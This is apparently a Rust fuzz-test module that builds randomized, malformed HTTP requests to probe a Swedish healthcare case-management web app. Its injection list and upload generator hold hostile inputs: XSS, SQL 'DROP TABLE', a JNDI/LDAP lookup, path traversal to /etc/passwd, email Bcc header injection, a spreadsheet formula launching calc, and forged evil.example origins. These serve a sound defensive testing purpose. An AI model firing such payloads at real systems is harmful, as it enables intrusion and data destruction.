//! The randomized requests: values, form bodies, multipart uploads, JSON and paths.

use super::*;

/// One request as sent.
pub(super) struct Req {
    pub(super) method: awc::http::Method,
    pub(super) path: String,
    pub(super) headers: Vec<(&'static str, Vec<u8>)>,
    pub(super) body: Vec<u8>,
}

/// A length from 0 to `MAX_LEN`, mostly short (a log-uniform tail).
pub(super) fn length(rng: &mut StdRng) -> usize {
    match rng.gen_range(0..100) {
        0..=79 => rng.gen_range(0..64),
        80..=94 => rng.gen_range(64..4096),
        _ => {
            let exp = rng.gen_range(12.0..(MAX_LEN as f64).log2());
            (2f64.powf(exp) as usize).min(MAX_LEN)
        }
    }
}

pub(super) const UNICODE: &[&str] = &[
    "å",
    "ä",
    "ö",
    "Å",
    "é",
    "ß",
    "ø",
    "ł",
    "Ω",
    "д",
    "中",
    "文",
    "😀",
    "👩‍⚕️",
    "\u{202e}",
    "\u{200b}",
    "\u{feff}",
    "\u{0301}",
    "\u{ffff}",
    "\u{10ffff}",
    "\u{fdd0}",
    "\u{2028}",
    "ﷺ",
    "𝕏",
    " ",
    "\t",
];
pub(super) const ODD_NUMBERS: &[&str] = &[
    "0",
    "-0",
    "-1",
    "1.5",
    "1e9",
    "1e400",
    "NaN",
    "inf",
    "0x10",
    "+1",
    " 1 ",
    "2147483647",
    "2147483648",
    "-2147483649",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "340282366920938463463374607431768211456",
    "99999999999999999999999999999999999999999999999999",
    "000000000000000000001",
];
pub(super) const INJECTIONS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' OR '1'='1' --",
    "'; DROP TABLE cases; --",
    "{{7*7}}",
    "${jndi:ldap://x}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "\\\\server\\share",
    "a,evil@evil.example",
    "<a@x.se>",
    "x@y.se\r\nBcc: z@evil.example",
    "=cmd|' /C calc'!A0",
    "\u{1b}[31mred",
];

pub(super) fn unicode(rng: &mut StdRng, len: usize) -> String {
    (0..len).map(|_| *UNICODE.choose(rng).unwrap()).collect()
}

pub(super) fn ascii(rng: &mut StdRng, len: usize) -> String {
    (0..len)
        .map(|_| char::from(rng.gen_range(0x20u8..0x7f)))
        .collect()
}

/// A value that makes sense for the field (so that requests get past the first checks).
pub(super) fn plausible(
    field: &str,
    fx: &Fixture,
    rng: &mut StdRng,
    sent: &mut BTreeSet<String>,
) -> String {
    let pick = |rng: &mut StdRng, xs: &[&str]| xs.choose(rng).unwrap().to_string();
    match field {
        "kind" => pick(rng, &["lock", "unlock"]),
        "unit_id" | "units" => fx.unit_a.to_string(),
        "citizen_pnr" | "pnr" => personnummer(rng, sent),
        "citizen_name" | "name" | "caller_name" | "decider_name" => {
            pick(rng, &["Tolvan Tolvansson", "Åsa Öberg", "Nils"])
        }
        "citizen_protected" | "is_decider" | "active" | "approved" => pick(rng, &["true", "false"]),
        "risk_kinds" => pick(rng, &["hot", "skada", "men"]),
        "basis" => pick(rng, &["security", "medical", "psychosocial"]),
        "situations" => pick(rng, &["threat", "other", "psychiatric"]),
        "requested_by" => pick(rng, &["staff", "citizen"]),
        "journal_sealing" => pick(rng, &["yes", "no"]),
        "patient_not_informed_reason" => pick(rng, &["patient_safety", "secrecy", ""]),
        f if f.ends_with("_date") || f == "decided_on" => pick(
            rng,
            &["2026-11-20", "2026-11-23", "2026-02-30", "2027-01-01"],
        ),
        "review_responsible_user_id" | "manager_user_id" => fx.clinician.id.to_string(),
        "care_provider" => {
            if rng.gen_bool(0.5) {
                "region".into()
            } else {
                fx.providers[0].to_string()
            }
        }
        "related_case_id" => fx.cases.choose(rng).unwrap().to_string(),
        "version" => rng.gen_range(1..8).to_string(),
        "hsa_id" | "decider_hsa_id" => {
            if rng.gen_bool(0.3) {
                fx.clinician.hsa_id.clone()
            } else {
                format!("SE2321000131-F{}", rng.gen_range(0..100_000))
            }
        }
        f if f.ends_with("email") => pick(rng, &["x@example.se", "a.b@region.se"]),
        "roles" => pick(
            rng,
            &[
                "clinician",
                "manager",
                "chief_physician",
                "handler",
                "auditor",
                "admin",
            ],
        ),
        "code" => format!("{:06}", rng.gen_range(0..1_000_000)),
        "password" | "confirm" => pick(rng, &["Ett långt lösenord 123", "kort", "Password1234!"]),
        "outcome" => pick(rng, &["keep", "unlock"]),
        "item" => pick(
            rng,
            &["arrival_stamped", "register_match", "certified", "category"],
        ),
        "org_number" => pick(rng, &["556677-8899", "5566778899", "212000-1355"]),
        "pem" => format!(
            "-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----\n",
            ascii(rng, 64)
        ),
        "caller_phone" => "010-123 45 67".into(),
        _ => pick(rng, &["Text", "Skäl enligt journalen", "x"]),
    }
}

/// A value for a field: plausible, or one of the kinds of bad input.
pub(super) fn value(
    field: &str,
    fx: &Fixture,
    rng: &mut StdRng,
    sent: &mut BTreeSet<String>,
) -> Vec<u8> {
    match rng.gen_range(0..100) {
        0..=34 => plausible(field, fx, rng, sent).into_bytes(),
        35..=43 => Vec::new(),
        44..=52 => {
            let n = rng.gen_range(1..64);
            unicode(rng, n).into_bytes()
        }
        53..=60 => ODD_NUMBERS.choose(rng).unwrap().as_bytes().to_vec(),
        61..=67 => {
            // A NUL somewhere in an otherwise plausible value.
            let mut v = plausible(field, fx, rng, sent).into_bytes();
            let at = rng.gen_range(0..=v.len());
            v.insert(at, 0);
            v
        }
        68..=74 => {
            // Invalid UTF-8: stray continuation bytes, overlong forms, lone surrogates.
            let n = rng.gen_range(1..32);
            let mut v: Vec<u8> = (0..n).map(|_| rng.gen_range(0x80u8..=0xff)).collect();
            v.extend_from_slice(&[0xed, 0xa0, 0x80, 0xc0, 0xaf]);
            v.shuffle(rng);
            v
        }
        75..=79 => {
            let n = rng.gen_range(1..16);
            (0..n)
                .map(|_| {
                    *[b'\r', b'\n', 0x07, 0x1b, 0x7f, b'\t', 0x08]
                        .choose(rng)
                        .unwrap()
                })
                .collect()
        }
        80..=84 => INJECTIONS.choose(rng).unwrap().as_bytes().to_vec(),
        85..=89 => {
            let n = length(rng).max(1);
            match rng.gen_range(0..3) {
                0 => "A".repeat(n).into_bytes(),
                1 => ascii(rng, n).into_bytes(),
                _ => unicode(rng, n / 3 + 1).into_bytes(),
            }
        }
        _ => personnummer(rng, sent).into_bytes(),
    }
}

/// `application/x-www-form-urlencoded` encoding of bytes.
pub(super) fn urlencode(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(bytes.len());
    for &b in bytes {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'*' => out.push(b),
            b' ' => out.push(b'+'),
            _ => out.extend_from_slice(format!("%{b:02X}").as_bytes()),
        }
    }
    out
}

/// A field name that is not the form's.
pub(super) fn stray_name(rng: &mut StdRng) -> Vec<u8> {
    match rng.gen_range(0..6) {
        0 => b"csrf_token".to_vec(),
        1 => b"roles[]".to_vec(),
        2 => b"a[b][c]".to_vec(),
        3 => {
            let n = rng.gen_range(1..20);
            unicode(rng, n).into_bytes()
        }
        4 => vec![0xff, 0xfe, 0x00],
        _ => {
            let n = length(rng).max(1);
            ascii(rng, n).into_bytes()
        }
    }
}

pub(super) fn form_body(
    fields: &[&str],
    csrf: &str,
    fx: &Fixture,
    rng: &mut StdRng,
    sent: &mut BTreeSet<String>,
) -> Vec<u8> {
    // How much of the form is bad: mostly one or two fields in an otherwise plausible form (so
    // that requests get past decoding to validation and the services), sometimes a third of
    // it, sometimes all of it.
    let bad_rate = match rng.gen_range(0..10) {
        0..=5 => (1.5 / fields.len().max(1) as f64).min(1.0),
        6..=8 => 0.3,
        _ => 1.0,
    };
    let mut pairs: Vec<(Vec<u8>, Vec<u8>)> = vec![];
    for f in fields {
        if rng.gen_bool(0.1) {
            continue; // missing
        }
        let v = if rng.gen_bool(bad_rate) {
            value(f, fx, rng, sent)
        } else {
            plausible(f, fx, rng, sent).into_bytes()
        };
        pairs.push((f.as_bytes().to_vec(), v));
    }
    // Sometimes a field twice or three times (a list field takes them all; another refuses).
    if !pairs.is_empty() && rng.gen_bool(0.15) {
        let i = rng.gen_range(0..pairs.len());
        for _ in 0..rng.gen_range(1..3) {
            let name = pairs[i].0.clone();
            let f = String::from_utf8_lossy(&name).into_owned();
            pairs.push((name, value(&f, fx, rng, sent)));
        }
    }
    for _ in 0..rng.gen_range(0..3) {
        if rng.gen_bool(0.3) {
            let name = stray_name(rng);
            let v = value("", fx, rng, sent);
            pairs.push((name, v));
        }
    }
    pairs.shuffle(rng);
    // The token: almost always the session's (so the handler is reached), sometimes missing,
    // wrong, or sent twice.
    let token = match rng.gen_range(0..100) {
        0..=1 => None,
        2..=3 => Some(ascii(rng, 43).into_bytes()),
        _ => Some(csrf.as_bytes().to_vec()),
    };
    if let Some(t) = token {
        let at = rng.gen_range(0..=pairs.len());
        pairs.insert(at, (b"csrf_token".to_vec(), t));
    }
    if rng.gen_bool(0.01) {
        pairs.push((b"csrf_token".to_vec(), b"x".to_vec()));
    }
    // Encoded as a browser does; in a tenth of the requests one pair raw (stray `&`, `=`, `%`,
    // bytes as they are).
    let raw_at = if rng.gen_bool(0.1) {
        rng.gen_range(0..pairs.len().max(1))
    } else {
        usize::MAX
    };
    let mut body = Vec::new();
    for (i, (k, v)) in pairs.iter().enumerate() {
        if i > 0 {
            body.push(b'&');
        }
        let raw = i == raw_at;
        let enc = |x: &[u8]| if raw { x.to_vec() } else { urlencode(x) };
        body.extend(enc(k));
        if !(raw && rng.gen_bool(0.2)) {
            body.push(b'=');
        }
        body.extend(enc(v));
    }
    match rng.gen_range(0..100) {
        // A body that is not a form at all, after a valid token.
        0..=2 => {
            let n = length(rng);
            let mut b = b"csrf_token=".to_vec();
            b.extend(urlencode(csrf.as_bytes()));
            b.push(b'&');
            b.extend((0..n).map(|_| rng.r#gen::<u8>()));
            b
        }
        3 => Vec::new(),
        4 => {
            let cut = rng.gen_range(0..=body.len());
            body.truncate(cut);
            body
        }
        _ => body,
    }
}

pub(super) fn multipart_body(csrf: &str, rng: &mut StdRng) -> (String, Vec<u8>) {
    let boundary = match rng.gen_range(0..20) {
        0 => String::new(),
        1 => "x".repeat(200),
        2 => "a b\"c".into(),
        _ => format!("----fuzz{}", rng.gen_range(0..u64::MAX)),
    };
    let content_type = match rng.gen_range(0..20) {
        0 => "multipart/form-data".to_string(),
        1 => format!("multipart/form-data; boundary=\"{boundary}\""),
        2 => format!("multipart/mixed; boundary={boundary}"),
        _ => format!("multipart/form-data; boundary={boundary}"),
    };
    let mut parts: Vec<Vec<u8>> = vec![];
    if rng.gen_bool(0.95) {
        let token = if rng.gen_bool(0.97) {
            csrf.to_string()
        } else {
            ascii(rng, 43)
        };
        parts.push(
            format!("Content-Disposition: form-data; name=\"csrf_token\"\r\n\r\n{token}")
                .into_bytes(),
        );
    }
    if rng.gen_bool(0.9) {
        let filename: Vec<u8> = match rng.gen_range(0..8) {
            0 => b"../../etc/passwd".to_vec(),
            1 => b"x.html".to_vec(),
            2 => {
                let n = rng.gen_range(1..40);
                unicode(rng, n).into_bytes()
            }
            3 => vec![b'a', 0, b'.', b'p', b'd', b'f'],
            4 => b"a\r\nb.pdf".to_vec(),
            5 => "x".repeat(length(rng)).into_bytes(),
            _ => b"blankett.pdf".to_vec(),
        };
        let n = length(rng);
        let data: Vec<u8> = match rng.gen_range(0..4) {
            0 => (0..n).map(|_| rng.r#gen::<u8>()).collect(),
            1 => {
                let mut d = b"%PDF-1.4\n".to_vec();
                d.extend((0..n).map(|_| rng.r#gen::<u8>()));
                d.extend_from_slice(b"\n%%EOF\n");
                d
            }
            2 => b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n".to_vec(),
            _ => b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n".to_vec(),
        };
        let mut p = b"Content-Disposition: form-data; name=\"file\"; filename=\"".to_vec();
        p.extend(filename);
        p.extend_from_slice(b"\"\r\nContent-Type: application/pdf\r\n\r\n");
        p.extend(data);
        parts.push(p);
    }
    if rng.gen_bool(0.2) {
        let n = rng.gen_range(0..200);
        let mut p = b"Content-Disposition: form-data; name=\"".to_vec();
        p.extend(stray_name(rng));
        p.extend_from_slice(b"\"\r\n\r\n");
        p.extend((0..n).map(|_| rng.r#gen::<u8>()));
        parts.push(p);
    }
    parts.shuffle(rng);
    let mut body = Vec::new();
    if rng.gen_bool(0.05) {
        body.extend_from_slice(b"preamble\r\n");
    }
    for p in &parts {
        body.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
        body.extend_from_slice(p);
        body.extend_from_slice(b"\r\n");
    }
    match rng.gen_range(0..10) {
        // Cut before the closing boundary (the request that once hung the server).
        0 => {}
        1 => {
            let cut = rng.gen_range(0..=body.len());
            body.truncate(cut);
        }
        _ => body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes()),
    }
    (content_type, body)
}

/// A JSON value of the wrong kind, or a number no field takes.
pub(super) const WRONG_JSON: &[&str] = &[
    "0",
    "-1",
    "1.5",
    "1e400",
    "-1e400",
    "123456789012345678901234567890",
    "true",
    "false",
    "null",
    "[]",
    "{}",
    "[\"hot\",1,null]",
    "{\"a\":1}",
    "\"\"",
    "\"\\ud800\"",
    "\"\\u0000\"",
    "\"a\\u0000b\"",
];

pub(super) fn json_string(s: &str) -> Vec<u8> {
    serde_json::to_string(s).unwrap().into_bytes()
}

pub(super) fn json_body(fx: &Fixture, rng: &mut StdRng, sent: &mut BTreeSet<String>) -> Vec<u8> {
    let strings = |xs: &[&str]| serde_json::to_string(xs).unwrap().into_bytes();
    let pnr = personnummer(rng, sent);
    let mut fields: Vec<(String, Vec<u8>)> = vec![
        ("kind".into(), json_string("lock")),
        (
            "unit_code".into(),
            json_string(&fx.unit_code.to_lowercase()),
        ),
        ("citizen_personnummer".into(), json_string(&pnr)),
        ("citizen_name".into(), json_string("Tolvan Tolvansson")),
        ("risk_kinds".into(), strings(&["hot"])),
        ("basis".into(), strings(&["security"])),
        ("situations".into(), strings(&["threat"])),
        ("assessment_reasons".into(), json_string("Hotbild.")),
        ("assessment_risks".into(), json_string("Risk för våld.")),
        ("assessment_scope".into(), json_string("Hela inloggningen.")),
        ("requested_by".into(), json_string("staff")),
        ("journal_note_date".into(), json_string("2026-11-20")),
        ("chief_informed_date".into(), json_string("2026-11-20")),
        ("chief_informed_whom".into(), json_string("Chefläkare")),
        ("patient_informed_date".into(), json_string("2026-11-21")),
        ("journal_sealing_requested".into(), b"false".to_vec()),
        (
            "review_responsible_hsa_id".into(),
            json_string(&fx.clinician.hsa_id),
        ),
        ("decider_name".into(), json_string("Doris Läkare")),
        ("decider_hsa_id".into(), json_string("SE2321000131-E1")),
        ("decider_role".into(), json_string("Legitimerad läkare")),
        ("decided_on".into(), json_string("2026-11-20")),
    ];
    // Some go through whole (and file a case); the rest are broken in one to three ways.
    if rng.gen_bool(0.85) {
        let mutations = if rng.gen_bool(0.6) {
            1
        } else {
            rng.gen_range(2..4)
        };
        for _ in 0..mutations {
            let i = rng.gen_range(0..fields.len());
            match rng.gen_range(0..10) {
                0 => {
                    fields.remove(i);
                    if fields.is_empty() {
                        break;
                    }
                }
                1 => fields[i].1 = WRONG_JSON.choose(rng).unwrap().as_bytes().to_vec(),
                2..=5 => {
                    let v = value(&fields[i].0.clone(), fx, rng, sent);
                    fields[i].1 = json_string(&String::from_utf8_lossy(&v));
                }
                6 => {
                    // Invalid UTF-8 inside a string.
                    let mut v = b"\"a".to_vec();
                    v.extend_from_slice(&[0xc3, 0x28, 0xff]);
                    v.push(b'"');
                    fields[i].1 = v;
                }
                7 => {
                    let dup = fields[i].clone();
                    fields.push(dup);
                }
                8 => {
                    let name = String::from_utf8_lossy(&stray_name(rng)).into_owned();
                    fields.push((name, json_string("x")));
                }
                _ => {
                    // Deep nesting.
                    let depth = rng.gen_range(1..400);
                    let mut v = "[".repeat(depth).into_bytes();
                    v.extend("]".repeat(depth).into_bytes());
                    fields[i].1 = v;
                }
            }
        }
        fields.shuffle(rng);
    }
    let mut body = b"{".to_vec();
    for (i, (k, v)) in fields.iter().enumerate() {
        if i > 0 {
            body.push(b',');
        }
        body.extend(json_string(k));
        body.push(b':');
        body.extend_from_slice(v);
    }
    body.push(b'}');
    match rng.gen_range(0..100) {
        0..=3 => {
            let cut = rng.gen_range(0..=body.len());
            body.truncate(cut);
            body
        }
        4..=5 => {
            for _ in 0..rng.gen_range(1..8) {
                let i = rng.gen_range(0..body.len());
                body[i] = rng.r#gen();
            }
            body
        }
        6..=7 => {
            let n = length(rng);
            (0..n).map(|_| rng.r#gen::<u8>()).collect()
        }
        8 => Vec::new(),
        9 => WRONG_JSON.choose(rng).unwrap().as_bytes().to_vec(),
        _ => body,
    }
}

/// A path segment that is not one of the fixture's ids.
pub(super) fn odd_segment(rng: &mut StdRng) -> String {
    const ODD: &[&str] = &[
        "0",
        "-1",
        "1.5",
        "9223372036854775807",
        "9223372036854775808",
        "-9223372036854775809",
        "99999999999999999999999999",
        "1e9",
        "0x10",
        "abc",
        "%C3%A5%C3%A4%C3%B6",
        "%FF%FE",
        "%E2%80%AE",
        "%00",
        "%2e%2e",
        "%2F",
        "%20",
        "~",
    ];
    if rng.gen_bool(0.85) {
        ODD.choose(rng).unwrap().to_string()
    } else {
        // Never all digits: an id of the fixture's own users is not to be changed by chance.
        let n = rng.gen_range(1..2000);
        let tail: String = (0..n)
            .map(|_| *b"abcXYZ019-._~".choose(rng).unwrap() as char)
            .collect();
        format!("x{tail}")
    }
}

pub(super) fn path(route: &Route, fx: &Fixture, rng: &mut StdRng) -> String {
    const ACTIONS: &[&str] = &[
        "signera",
        "skicka",
        "ta-emot",
        "kontroll",
        "retur",
        "verifiera",
        "verkstall",
        "aterkalla",
    ];
    let mut out = String::new();
    let mut rest = route.pattern;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let close = open + rest[open..].find('}').unwrap();
        let name = &rest[open + 1..close];
        let ids = |xs: &[i64]| xs.iter().map(i64::to_string).collect::<Vec<_>>();
        let known: Vec<String> = match (name, route.pattern) {
            ("token", _) => fx.link_tokens.clone(),
            ("action", _) => ACTIONS.iter().map(|a| a.to_string()).collect(),
            (_, p) if p.starts_with("/arenden/") => ids(&fx.cases),
            (_, p) if p.starts_with("/admin/anvandare/") => ids(&fx.victim_users),
            (_, p) if p.starts_with("/admin/enheter/") => ids(&fx.victim_units),
            (_, p) if p.starts_with("/admin/post/") => ids(&fx.outbox),
            (_, p) if p.starts_with("/admin/vardgivare/") => ids(&fx.providers),
            _ => vec![],
        };
        match known.choose(rng) {
            Some(k) if rng.gen_bool(0.85) => out.push_str(k),
            _ => out.push_str(&odd_segment(rng)),
        }
        rest = &rest[close + 1..];
    }
    out.push_str(rest);
    if route.method == "get" && rng.gen_bool(0.5) {
        out.push('?');
        out.push_str(&odd_segment(rng));
        out.push('=');
        out.push_str(&odd_segment(rng));
    }
    out
}

pub(super) fn request(
    route: &Route,
    fx: &Fixture,
    app: &TestApp,
    rng: &mut StdRng,
    sent: &mut BTreeSet<String>,
) -> Req {
    let right = rng.gen_bool(0.9);
    let who = if right {
        *route.who.choose(rng).unwrap()
    } else if ENDS_SESSION.contains(&route.pattern) {
        *[Who::Nobody, Who::Visitor, Who::Leaving]
            .choose(rng)
            .unwrap()
    } else {
        *ANYONE.choose(rng).unwrap()
    };
    let path = path(route, fx, rng);
    let mut headers: Vec<(&'static str, Vec<u8>)> = vec![];
    let sess = match who {
        Who::Visitor => Some(session_for(app, None, session::Stage::Anonymous)),
        Who::Leaving => Some(session_for(
            app,
            Some(fx.clinician.id),
            session::Stage::Full,
        )),
        Who::ChangePassword => Some(enrolling_session(app, fx.temporary, true)),
        Who::EnrolTotp => Some(enrolling_session(app, fx.enrolling, false)),
        w => fx.sessions.get(&w).cloned(),
    };
    if let Some(s) = &sess {
        headers.push(("cookie", s.cookie.clone().into_bytes()));
    }
    let csrf = sess.map(|s| s.csrf).unwrap_or_default();
    let body = match route.body {
        Body::Form(fields) => {
            let ct: &[u8] = match rng.gen_range(0..100) {
                0..=1 => b"application/x-www-form-urlencoded; charset=ISO-8859-1",
                2 => b"text/plain",
                3 => b"",
                _ => b"application/x-www-form-urlencoded",
            };
            if !ct.is_empty() {
                headers.push(("content-type", ct.to_vec()));
            }
            form_body(fields, &csrf, fx, rng, sent)
        }
        Body::Multipart => {
            let (ct, body) = multipart_body(&csrf, rng);
            headers.push(("content-type", ct.into_bytes()));
            body
        }
        Body::Json => {
            let ct: &[u8] = match rng.gen_range(0..100) {
                0..=2 => b"text/plain",
                3..=4 => b"",
                5..=9 => b"application/json; charset=utf-8",
                _ => b"application/json",
            };
            if !ct.is_empty() {
                headers.push(("content-type", ct.to_vec()));
            }
            let key: Vec<u8> = match rng.gen_range(0..100) {
                0..=4 => b"fuzz-key-1".to_vec(),
                5..=8 => Vec::new(),
                9..=11 => "k".repeat(rng.gen_range(101..300)).into_bytes(),
                12..=14 => vec![b'k', 0xe5, b' ', 0xff],
                _ => format!("fuzz-{}", rng.gen_range(0..u64::MAX)).into_bytes(),
            };
            if !key.is_empty() || rng.gen_bool(0.5) {
                headers.push(("idempotency-key", key));
            }
            json_body(fx, rng, sent)
        }
        Body::None => Vec::new(),
    };
    if who == Who::ApiClient {
        headers.push((
            "authorization",
            format!("Bearer {}", fx.api_token).into_bytes(),
        ));
    } else if matches!(route.body, Body::Json) && rng.gen_bool(0.5) {
        // The wrong credentials: another token, or none of the right form.
        let bad: Vec<u8> = match rng.gen_range(0..4) {
            0 => format!("Bearer {}", ascii(rng, 43)).into_bytes(),
            1 => b"Bearer ".to_vec(),
            2 => format!("Basic {}", fx.api_token).into_bytes(),
            _ => format!("Bearer {}", "t".repeat(300)).into_bytes(),
        };
        headers.push(("authorization", bad));
    }
    // A few cross-site posts.
    if route.method == "post" && rng.gen_bool(0.01) {
        headers.push(("origin", b"http://evil.example".to_vec()));
    }
    if route.method == "post" && rng.gen_bool(0.01) {
        headers.push(("sec-fetch-site", b"cross-site".to_vec()));
    }
    let mut body = body;
    body.truncate(MAX_LEN);
    use awc::http::Method;
    let method = match route.method {
        "get" => Method::GET,
        "post" => Method::POST,
        // Any method (a route that answers the ones the path does not take).
        _ => [
            Method::GET,
            Method::PUT,
            Method::DELETE,
            Method::PATCH,
            Method::OPTIONS,
            Method::TRACE,
            Method::HEAD,
        ]
        .choose(rng)
        .unwrap()
        .clone(),
    };
    Req {
        method,
        path,
        headers,
        body,
    }
}
